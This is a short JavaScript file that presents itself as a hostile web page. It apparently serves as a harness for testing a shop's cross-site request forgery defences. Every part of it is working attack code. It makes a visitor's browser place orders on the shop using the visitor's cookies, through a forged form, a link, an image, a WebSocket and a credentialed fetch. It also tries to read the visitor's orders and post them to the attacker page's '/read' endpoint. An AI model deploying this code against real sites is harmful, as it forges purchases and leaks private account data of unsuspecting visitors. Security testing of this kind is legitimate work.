// A page of a hostile site: makes the browser of whoever comes by send requests to the shop, with its cookies.
const { shop, path, from, how } = Object.fromEntries(new URLSearchParams(location.search))
const by = (attack) => `by=${from}.${attack}`
const settled = (object, ...events) => new Promise((done) => events.forEach((event) => object.addEventListener(event, done)))

const WAYS = {
  form() {
    const form = document.createElement("form")
    Object.assign(form, { method: "POST", action: `${shop}${path}/orders?${by("form")}` })
    document.documentElement.append(form)
    form.submit()
  },
  link() {
    location.href = `${shop}${path}/orders/now?${by("link")}`
  },
  async quietly() {
    const image = new Image()
    image.src = `${shop}${path}/orders/now?${by("image")}`
    const socket = new WebSocket(`${shop.replace("http", "ws")}${path}/orders/live?${by("socket")}`)
    const sent = fetch(`${shop}${path}/orders?${by("fetch")}`, { method: "POST", mode: "no-cors", credentials: "include" })
    const answer = fetch(`${shop}${path}/orders`, { credentials: "include" }).then((one) => (one.ok ? one.text() : ""))
    const read = answer.then((text) => text && fetch("/read", { method: "POST", body: text }))
    await Promise.allSettled([settled(image, "load", "error"), settled(socket, "close", "error"), sent, read])
    document.title = "done"
  },
}
// Only after the page is there: what happens before replaces it, and counts as one visit.
addEventListener("load", () => setTimeout(WAYS[how], 0))
